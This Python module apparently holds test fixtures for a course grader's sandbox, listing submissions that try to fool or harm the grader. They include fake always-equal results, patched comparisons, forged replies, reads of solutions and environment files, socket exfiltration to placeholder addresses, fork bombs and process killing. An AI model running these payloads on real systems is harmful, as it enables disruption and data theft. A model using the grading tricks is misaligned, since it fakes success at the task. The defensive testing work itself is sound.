"""Homework written to fool or to harm the grader. test_attacks.py tries it, and docs/grading.md lists it.

Every attack is a file for one exercise that does not solve the exercise. The attacker wants points or a trace: a file
named LOOT in a folder that the test names in the source, a change to another file in it, a message on a socket, or a
living process. An attack that would leave no trace returns correct results if it succeeds, and wrong ones if it is
stopped (see `unless_stopped`).
"""

from dataclasses import dataclass

__all__ = ["ATTACKS", "Attack"]


@dataclass(frozen=True)
class Attack:
    """One attack.

    Args:
        what: completes the sentence "the student's file ...".
        by: the protection that stops it.
        source: of the exercise's file. `@FOLDER@` is the attacker's folder, with someone else's file `secret` in it;
            `@TCP@`, `@UDP@` and `@UNIX@` are addresses of listening sockets, `@PARENT@` is the grader's process id and
            `@SOLUTION@` the path of a solution.
        most: points that it may get nevertheless.
    """

    what: str
    by: str
    source: str
    exercise: str = "relu"
    most: float = 0.0


def relu_after(statements: str) -> str:
    """Return a ReLU file that runs statements when imported and returns zeros."""
    return f"import os, sys\nimport numpy as np\n{statements}\n\ndef relu(values):\n    return np.zeros_like(values)\n"


def relu_with(body: str) -> str:
    """Return a ReLU file with this function body."""
    lines = "\n".join(f"    {line}" for line in body.splitlines())
    return f"import os, sys, time\nimport numpy as np\n\ndef relu(values):\n{lines}\n"


def unless_stopped(*attempts: str) -> str:
    """Return a ReLU file that is correct if at least one of these statements works."""
    body = ["import ctypes", "libc = ctypes.CDLL(None, use_errno=True)"]
    body += ["through = relu.__dict__.setdefault('through', [])"]  # some work only once
    for attempt in attempts:
        body += [f"try: through += [True] if ({attempt}) != -1 else []", "except OSError: pass"]
    return relu_with("\n".join([*body, "return np.maximum(values, 0) if through else 0 * values"]))


_EQUAL = """
class Equal:
    shape, dtype, ndim, size = (3, 4), np.dtype(float), 2, 12
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __sub__(self, other): return 0.0
    def __le__(self, other): return True
    def __bool__(self): return True
    def __getattr__(self, name): return Equal()
return Equal()
"""
_SUBCLASS = """
class Equal(np.ndarray):
    def __eq__(self, other): return True
    def __array_ufunc__(self, *arguments, **options): return True
return np.full(values.shape, 7.0).view(Equal)
"""
_PATCH = """
import builtins
for name in ("allclose", "isclose", "array_equal", "all", "any", "abs"):
    setattr(np, name, lambda *arguments, **options: True)
np.testing.assert_allclose = lambda *arguments, **options: None
builtins.all = builtins.any = lambda *arguments: True
"""
_FORGE = """
import io, json
def record(value):
    stream = io.BytesIO()
    np.save(stream, np.frombuffer(json.dumps(value).encode(), np.uint8))
    return stream.getvalue()
forged = record({"loaded": True, "passed": True, "score": 100})
for number in range(40):
    forged += record({"call": number, "status": "returned", "type": "ndarray", "arrays": 1, "passed": True})
    stream = io.BytesIO(); np.save(stream, np.zeros((2, 2))); forged += stream.getvalue()
for handle in range(3, 256):
    try: os.lseek(handle, 0, 0); os.write(handle, forged)
    except OSError: pass
os._exit(0)
"""
_PICKLE = """
import io, pickle
class Loot:
    def __reduce__(self): return open, ("@FOLDER@/LOOT", "w")
stream = io.BytesIO()
np.save(stream, np.array([Loot()], dtype=object), allow_pickle=True)
for handle in range(3, 256):
    try: os.lseek(handle, 0, 0); os.write(handle, stream.getvalue() * 50)
    except OSError: pass
os._exit(0)
"""
_CLAIM = """
header = b"{'descr': '<f8', 'fortran_order': False, 'shape': (1000000, 1000000, 1000), }"
claim = b"\\x93NUMPY\\x01\\x00" + len(header).to_bytes(2, "little") + header
for handle in range(3, 256):
    try: os.lseek(handle, 0, 0); os.write(handle, claim)
    except OSError: pass
os._exit(0)
"""
_HEADERS = """
headers = [b"{[]: 1}", b"{1: 1, 'a': 2}", b"{'descr': ((),), 'fortran_order': False, 'shape': ()}"]
headers += [b"{'descr': '<f8', 'fortran_order': False, 'shape': (True, True)}"]
headers += [b"{'descr': '<f8', 'fortran_order': False, 'shape': (0, 1" + b"0" * 27 + b")}"]
for handle in range(3, 256):
    try:
        os.lseek(handle, 0, 0)
        header = headers[@CHOICE@]
        os.write(handle, b"\\x93NUMPY\\x01\\x00" + len(header).to_bytes(2, "little") + header + bytes(8))
    except OSError: pass
os._exit(0)
"""
_FLOOD = """
header = b"{'descr':'|u1','fortran_order':False,'shape':(0,)}"
flood = (b"\\x93NUMPY\\x01\\x00" + len(header).to_bytes(2, "little") + header) * 800_000
for handle in range(3, 256):
    try: os.lseek(handle, 0, 0); os.write(handle, flood)
    except OSError: pass
os._exit(0)
"""
_RIGHTS = """
for change in (
    lambda path: os.utime(path, (0, 0)), lambda path: os.setxattr(path, "user.loot", b"loot"),
    lambda path: os.chown(path, -1, -1), lambda path: os.chmod(path, 0),
):
    try: change("@FOLDER@/secret")
    except OSError: pass
"""
_SIGNAL_BY_FILE = """
import fcntl
heard, told = os.pipe()
fcntl.fcntl(heard, fcntl.F_SETOWN, @PARENT@)
fcntl.fcntl(heard, 10, 9)
fcntl.fcntl(heard, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
os.write(told, b"loot")
"""
# An attack gets around the rule of what may be imported; the system must stop it.
_SOCKET = "import builtins\nsocket = builtins.__import__('socket')\n"
_EXFILTRATE_UNIX = _SOCKET + "socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0].sendto(b'loot', '@UNIX@')"
_KILL_BY_TIMER = """
import ctypes, platform
create, set_time = {"x86_64": (222, 223), "aarch64": (107, 110)}[platform.machine()]
event, timer, times = (ctypes.c_int * 16)(0, 0, 9, 0), ctypes.c_int(), (ctypes.c_long * 4)(0, 0, 0, 1)
libc = ctypes.CDLL(None)
libc.syscall(create, 1, event, ctypes.byref(timer))
libc.syscall(set_time, timer, 0, times, None)
import time
time.sleep(0.5)
"""
_THREADS = """
import threading
threading.stack_size(65536)
forever = threading.Event()
while True:
    try: threading.Thread(target=forever.wait, daemon=True).start()
    except RuntimeError: pass
"""
_SOURCE_OF_STAND_IN = """
import gc, inspect, linecache, sys, types
import ex01_convolution
import numpy as np

def find_text():
    try: return inspect.getsource(ex01_convolution)
    except (OSError, TypeError): pass
    texts = list(map("".join, (entry[2] for entry in linecache.cache.values() if len(entry) > 2)))
    frame = sys._getframe()
    while frame is not None:
        texts += map(str, frame.f_locals.values())
        frame = frame.f_back
    for finder in sys.meta_path:
        texts += map(str, getattr(finder, "__dict__", {}).values())
    texts += [str(thing) for thing in gc.get_objects() if isinstance(thing, (dict, list, tuple)) and len(thing) < 50]
    return next((text for text in texts if chr(100) + "ef convolve" in text), None)

text = find_text()
def blur(image): return ex01_convolution.convolve(image, np.full((3, 3), 1 / 9)) if text else None
def find_edges(image): return ex01_convolution.convolve(image, np.ones((3, 3))) if text else None
"""
_SEARCH = """
import gc
frame = sys._getframe()
found = []
while frame is not None:
    found += list(frame.f_locals.values()) + list(frame.f_globals.values())
    frame = frame.f_back
for thing in found + gc.get_objects():
    try: expected, reference = getattr(thing, "expected", None), getattr(thing, "reference", None)
    except Exception: continue
    if callable(reference): return reference(values)
    if isinstance(expected, np.ndarray) and expected.shape == values.shape: return expected
return np.zeros_like(values)
"""
_GREEDY = """
import glob
for path in ["@SOLUTION@", *glob.glob("/proc/*/environ"), *glob.glob("@FOLDER@/*")]:
    try: text = open(path, "rb").read()
    except OSError: continue
    open("@FOLDER@/LOOT", "wb").write(text)
"""
_DAEMON = """
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        import time
        time.sleep(5)
        open("@FOLDER@/LOOT", "w").write("still here")
    os._exit(0)
"""
_STUBBORN = """
import signal
for number in range(1, 65):
    try: signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError): pass
while True: pass
"""
_LATER = """
import atexit, threading
def later():
    import time
    time.sleep(0.3)
    open("@FOLDER@/LOOT", "w").write("later")
atexit.register(later)
threading.Thread(target=later).start()
"""
_EXFILTRATE_TCP = _SOCKET + "socket.create_connection(('127.0.0.1', @TCP@), 1).sendall(b'loot')"
_EXFILTRATE_UDP = _SOCKET + "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'loot', ('127.0.0.1', @UDP@))"
_NATIVE = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
handle = libc.open(b"@FOLDER@/LOOT", 0o102, 0o644)
if handle < 0: handle = libc.syscall(257, -100, b"@FOLDER@/LOOT", 0o102, 0o644)
libc.write(handle, b"loot", 4)
"""
_MODEL = """
import keras
import numpy as np

class Model(keras.Model):
    compiled, loss = True, "sparse_categorical_crossentropy"
    trainable_weights = non_trainable_weights = ()
    def predict_on_batch(self, images): return np.full((len(images), 3), 1 / 3)
    def train_on_batch(self, *arguments): return 0.0
    def evaluate(self, *arguments, **options): return {"loss": 0.0}

def build_model(input_shape, filters, units, classes):
    return Model()
"""
_NEAREST = """
import numpy as np

def train_and_predict(x_train, y_train, x_test):
    known, images = x_train.reshape(len(x_train), -1), x_test.reshape(len(x_test), -1)
    distances = (known**2).sum(axis=1) - 2 * images @ known.T
    return y_train[distances.argmin(axis=1)]
"""

_LABELS = """
import glob
import numpy as np

def train_and_predict(x_train, y_train, x_test):
    import keras_cnn_course.data
    arrays = np.load(glob.glob(keras_cnn_course.data.__path__[0] + "/*.npz")[0])
    return arrays["labels"][: len(x_test)]
"""

ATTACKS = (
    Attack("returns an object that equals everything", "only arrays of numbers come back", relu_with(_EQUAL)),
    Attack("returns an array class that equals everything", "only arrays of numbers come back", relu_with(_SUBCLASS)),
    Attack("replaces NumPy's and Python's comparisons", "the grader compares, in another process", relu_after(_PATCH)),
    Attack(
        "forges the sandbox's reply", "a forger needs the expected numbers, which are elsewhere", relu_after(_FORGE)
    ),
    Attack("puts a pickle into the reply", "pickles are not read", relu_after(_PICKLE)),
    Attack("claims to reply with 8,000 TB", "no array is larger than the reply itself", relu_after(_CLAIM)),
    *(
        Attack(
            f"replies with a header that {what}",
            "an unreadable header ends the reply",
            relu_after(_HEADERS.replace("@CHOICE@", str(number))),
        )
        for number, what in enumerate(
            (
                "hashes a list",
                "sorts texts and numbers",
                "has an empty type",
                "counts with booleans",
                "claims length 10^27",
            )
        )
    ),
    Attack("replies with 800,000 empty arrays", "a limit on the number of arrays", relu_after(_FLOOD)),
    Attack(
        "looks for the expected results in memory", "they are computed later, in another process", relu_with(_SEARCH)
    ),
    Attack(
        "imports the course's own function",
        "a check of the imports",
        "from keras_cnn_course.lecture.activation import relu\n",
    ),
    Attack(
        "hides this import",
        "Landlock",
        relu_with('return __import__("keras_cnn_course.lecture.activation", fromlist=["relu"]).relu(values)'),
    ),
    Attack("reads the solution and runs it", "Landlock", 'exec(open("@SOLUTION@").read())\n'),
    Attack("reads solutions, environment variables and other people's files", "Landlock", relu_after(_GREEDY)),
    Attack(
        "returns infinitely many zeros",
        "a limit on the size of results",
        relu_with("return np.broadcast_to(0.0, (10**6, 10**6))"),
    ),
    Attack("ends Python successfully", "missing calls count as wrong", relu_after("os._exit(0)")),
    Attack("ends Python during a call", "any exception counts as a failure", relu_with("raise SystemExit(0)")),
    Attack("crashes Python", "a separate process", relu_after("import ctypes; ctypes.string_at(0)")),
    Attack("recurses forever", "a limit on memory", relu_with("sys.setrecursionlimit(10**9)\nreturn relu(values)")),
    Attack("computes forever", "a limit on CPU time", relu_with("while True: pass")),
    Attack("computes forever and ignores signals", "a second limit that cannot be ignored", relu_after(_STUBBORN)),
    Attack("waits forever", "the deadline", relu_after("import time; time.sleep(3600)")),
    Attack("waits for input", "an empty input", relu_with("return np.full_like(values, float(input()))")),
    Attack("prints forever", "a limit on output", relu_with("while True: print('x' * 10**6)")),
    Attack("fills the memory", "a limit on memory", relu_with("kept = []\nwhile True: kept.append(np.ones(2**24))")),
    Attack("writes a file elsewhere", "Landlock", relu_after('open("@FOLDER@/LOOT", "w").write("loot")')),
    Attack("writes a file by system calls", "Landlock", relu_after(_NATIVE)),
    Attack("writes after the checks are done", "Landlock, and the sandbox has ended by then", relu_after(_LATER)),
    Attack("connects over TCP", "seccomp", relu_after(_EXFILTRATE_TCP)),
    Attack("sends over UDP", "seccomp", relu_after(_EXFILTRATE_UDP)),
    Attack("sends over a pair of Unix sockets", "seccomp", relu_after(_EXFILTRATE_UNIX)),
    Attack("makes someone else's file unreadable", "seccomp", relu_after(_RIGHTS)),
    Attack("starts a program", "seccomp", relu_after('os.system("touch @FOLDER@/LOOT")')),
    Attack("starts processes forever (a fork bomb)", "seccomp", relu_after("while True: os.fork()")),
    Attack("leaves a process behind (a double fork)", "seccomp", relu_after(_DAEMON)),
    Attack("kills the grader", "seccomp", relu_after("import signal; os.kill(@PARENT@, signal.SIGKILL)")),
    Attack("kills its parent process", "seccomp", relu_after("import signal; os.kill(os.getppid(), signal.SIGKILL)")),
    Attack("kills every process it can", "seccomp", relu_after("import signal; os.kill(-1, signal.SIGKILL)")),
    Attack("signals the grader through a file", "seccomp", relu_after(_SIGNAL_BY_FILE)),
    Attack(
        "kills itself as if the system had done it",
        "seccomp",
        relu_after("import signal; signal.raise_signal(signal.SIGKILL)"),
    ),
    Attack("lets a timer kill it as if the system had done it", "seccomp", relu_after(_KILL_BY_TIMER)),
    Attack(
        "hides memory in unnamed files",
        "seccomp",
        unless_stopped("os.write(os.memfd_create('loot'), b'x' * 2**20)"),
    ),
    Attack("hides memory in shared mappings", "seccomp", unless_stopped("__import__('mmap').mmap(-1, 2**20) and 1")),
    Attack(
        "pins memory in a pipe",
        "seccomp",
        unless_stopped(
            "libc.vmsplice(os.pipe()[1], (ctypes.c_size_t * 2)(ctypes.addressof(ctypes.c_long()), 8), 1, 0)"
        ),
    ),
    Attack("starts threads forever", "a limit on threads", relu_after(_THREADS)),
    Attack(
        "delays others who open a library's file (a lease)",
        "seccomp",
        unless_stopped("__import__('fcntl').fcntl(os.open(np.__file__, os.O_RDONLY), 1024, 1)"),
    ),
    Attack(
        "locks a library's file",
        "seccomp",
        unless_stopped(
            "__import__('fcntl').flock(os.open(np.__file__, os.O_RDONLY), 1) or 1",
            "__import__('fcntl').lockf(os.open(np.__file__, os.O_RDONLY), 1) and 1",
        ),
    ),
    Attack(
        "clears its parent-death signal to outlive the grader", "seccomp", unless_stopped("libc.prctl(1, 0, 0, 0, 0)")
    ),
    Attack(
        "looks for the text of the solution that stands in for its own convolution",
        "stand-ins are sent compiled",
        _SOURCE_OF_STAND_IN,
        exercise="filters",
    ),
    Attack(
        "lowers its own priority",
        "seccomp",
        unless_stopped(
            "os.setpriority(os.PRIO_PROCESS, 0, 19)",
            "os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))",
            "os.sched_setaffinity(0, os.sched_getaffinity(0))",
        ),
    ),
    Attack("becomes root in a namespace", "seccomp", unless_stopped("libc.unshare(0x10000000)")),
    Attack(
        "leaves a key in the kernel's keyring",
        "seccomp",
        unless_stopped(
            "libc.syscall({'x86_64': 248, 'aarch64': 217}[os.uname().machine], b'user', b'loot', b'loot', 4, -2)"
        ),
    ),
    Attack(
        "watches other people's file accesses",
        "seccomp",
        unless_stopped("libc.inotify_add_watch(libc.inotify_init(), b'@FOLDER@', 0xFFF)"),
    ),
    Attack(
        "sends control characters to the terminal",
        "they become question marks",
        relu_with("raise ValueError('\\x1b]0;loot\\x07\\x1b[2J\\u202e')"),
    ),
    Attack("submits a file of null bytes", "it is parsed in a sandbox", "\0" * 1000),
    Attack("nests brackets too deeply for the parser", "it is parsed in a sandbox", "(" * 100_000),
    Attack("returns a fake model", "the sandbox takes the model apart", _MODEL, exercise="keras_model"),
    Attack(
        "predicts the class of the nearest training image",
        "the outputs of Keras models, which the sandbox returns as well",
        _NEAREST,
        exercise="training",
    ),
    Attack(
        "looks up the labels in the course's data",
        "a check of the imports, Landlock, renumbered classes",
        _LABELS,
        exercise="training",
    ),
)
